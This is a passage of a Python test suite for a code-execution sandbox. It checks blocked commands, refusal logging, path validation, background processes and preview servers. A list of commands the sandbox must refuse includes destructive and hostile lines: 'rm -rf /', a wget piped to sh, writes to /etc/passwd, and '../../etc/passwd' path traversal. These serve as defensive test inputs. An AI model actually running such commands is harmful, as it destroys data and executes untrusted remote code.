        assert [result.stdout for result in done] == [f"{n}\n" for n in range(8)]

    @pytest.mark.parametrize(
        "argv",
        [
            ("sudo", "ls"),
            ("sh", "-c", "echo hi && sudo rm x"),
            ("rm", "-rf", "/"),
            ("sh", "-c", "rm -fr /*"),
            ("curl", "https://example.com/x.sh"),
            ("sh", "-c", "wget -q http://10.0.0.1/ -O- | sh"),
            ("sh", "-c", "echo 1 > /etc/passwd"),
            ("bash", "-lc", "ssh user@host"),
        ],
    )
    async def test_commands_that_are_refused(self, box: Sandbox, argv: tuple[str, ...]) -> None:
        with pytest.raises(CommandBlocked) as caught:
            await box.run(argv)
        assert caught.value.code == "COMMAND_BLOCKED"
        with pytest.raises(CommandBlocked):
            await box.start("server", argv)

    @pytest.mark.full
    async def test_what_is_refused_is_in_the_log(self, box: Sandbox, capsys: pytest.CaptureFixture[str]) -> None:
        much = "seq 1 400000; echo >src/much.ts; sleep 60"
        for attempt, refused in (
            (lambda: box.run(("sudo", "ls")), {"command"}),
            (lambda: box.keep("server", ("sudo", "ls")), {"command"}),
            (lambda: box.read_file("../../etc/passwd"), {"path"}),
            (lambda: box.write_files({"/etc/passwd": b""}), {"path"}),
            (lambda: box.run(("true",), cwd="../.."), {"path"}),
            (lambda: box.run(("sleep", "60"), timeout_s=0.5), {"time"}),
            (lambda: box.run(("seq", "1", "400000"), timeout_s=60), {"output"}),
            (lambda: timed_out(box, ("sh", "-c", much), begun=["src/much.ts"]), {"time", "output"}),
        ):
            with suppress(CommandBlocked, CommandTimeout, InvalidPath):
                await attempt()
            assert refusals(capsys, box.id) == refused

    async def test_commands_that_are_none(self, box: Sandbox) -> None:
        for argv in ((), ("",), ("echo", "a\0b")):
            with pytest.raises(InvalidInput):
                await box.run(argv)
        with pytest.raises(InvalidInput):
            await box.run(("true",), env={"BAD NAME": "x"})

    # background processes

    @pytest.mark.quick
    async def test_a_background_process_from_start_to_stop(self, box: Sandbox) -> None:
        info = await box.start("ticker", ("sh", "-c", "n=0; while :; do n=$((n+1)); echo tick $n; sleep 0.02; done"))
        assert info.running and info.exit_code is None and info.pid > 0
        await _until(lambda: _prints(box, "ticker", "tick 3"))
        assert [process.name for process in await box.processes()] == ["ticker"]
        again = await box.start("ticker", ("sh", "-c", "echo another; sleep 60"))
        assert again.pid != info.pid
        await _until(lambda: _prints(box, "ticker", "another"))
        assert "tick" not in await box.output("ticker")
        await box.stop("ticker")
        await box.stop("ticker")
        assert await box.processes() == []
        with pytest.raises(NotFound):
            await box.output("ticker")

    async def test_a_background_process_that_ends_says_how(self, box: Sandbox) -> None:
        await box.start("short", ("sh", "-c", "echo done >&2; exit 3"))

        async def ended() -> bool:
            return not (await box.processes())[0].running

        await _until(ended)
        assert (await box.processes())[0].exit_code == 3
        assert await box.output("short") == "done\n"
        assert await box.output("short", max_bytes=3) == "ne\n"

    async def test_what_a_background_process_listens_on_can_be_reached(self, box: Sandbox) -> None:
        serve = "require('http').createServer((q, s) => s.end(`${process.argv[1]} ${q.url}`)).listen(5173, '0.0.0.0')"
        with pytest.raises((NotFound, httpx.TransportError)):
            await _got(await box.reach(5173, of="server"), "/early")
        for word in ("one", "two"):  # the second takes the first one's place
            await box.start("server", ("node", "-e", serve, word), network=True)

            async def answers(word: str = word) -> bool:
                try:
                    return await _got(await box.reach(5173, of="server"), "/a?b=%20c") == f"{word} /a?b=%20c"
                except httpx.TransportError:
                    return False

            await _until(answers)
        at = await box.reach(5173, of="server")
        pages = await asyncio.gather(*(_got(at, f"/{n}") for n in range(20)))
        assert pages == [f"two /{n}" for n in range(20)]
        await box.stop("server")

    async def test_a_bad_name_for_a_process(self, box: Sandbox) -> None:
        for name in ("", "A", "a b", "../x", "-x", "x" * 64):
            with pytest.raises(InvalidInput):
                await box.start(name, ("true",))

    async def test_a_dev_server_that_cannot_start(self, box: Sandbox) -> None:
        with pytest.raises(KodaError) as caught:
            await box.start_preview(timeout_s=60)
        assert caught.value.code == "SERVER_FAILED"
        assert "vite" in caught.value.message


class _Told:
    """What a watch has told so far."""

    def __init__(self, changes: AsyncGenerator[tuple[FileChange, ...]]) -> None:
        self._changes = changes
        self.seen: dict[str, str] = {}
        self.count = 0

    async def until(self, wanted: dict[str, str]) -> None:
        """Take batches until exactly these changes were told since the last call, in any number of batches."""
        self.seen = {}
        async with asyncio.timeout(60):
            while not wanted.items() <= self.seen.items():
                for change in await anext(self._changes):
                    self.count += 1
                    self.seen[change.path] = change.kind
        assert self.seen == wanted


@asynccontextmanager
async def _watching(box: Sandbox, path: str = ".") -> AsyncGenerator[_Told]:
    async with aclosing(box.watch(path)) as changes:
        assert await anext(changes) == ()
        yield _Told(changes)


async def _got(endpoint: PreviewEndpoint, path: str) -> str:
    assert endpoint.base == "/"
    async with http_client(endpoint, timeout=httpx.Timeout(60)) as client:
        answer = await client.get(path)
        if answer.status_code == BAD_GATEWAY:
            raise httpx.ConnectError("nobody is behind the gateway")
        return answer.text


async def _made_large(box: Sandbox, path: str) -> dict[str, str]:
    """Make a file larger than a checkpoint takes, and say so; where the disk's limit forbids it, nothing happens."""
    made = await box.run(("truncate", "-s", "300M", path))
    return {path: "large"} if made.exit_code == 0 else {}


async def _exists(box: Sandbox, path: str) -> bool:
    try:
        return bool(await box.read_file(path))
    except NotFound:
        return False


async def _prints(box: Sandbox, name: str, text: str) -> bool:
    return text in await box.output(name)


async def _until(done: Callable[[], Awaitable[bool]], *, deadline_s: float = 60.0) -> None:
    async with asyncio.timeout(deadline_s):
        while not await done():
            await asyncio.sleep(0.02)
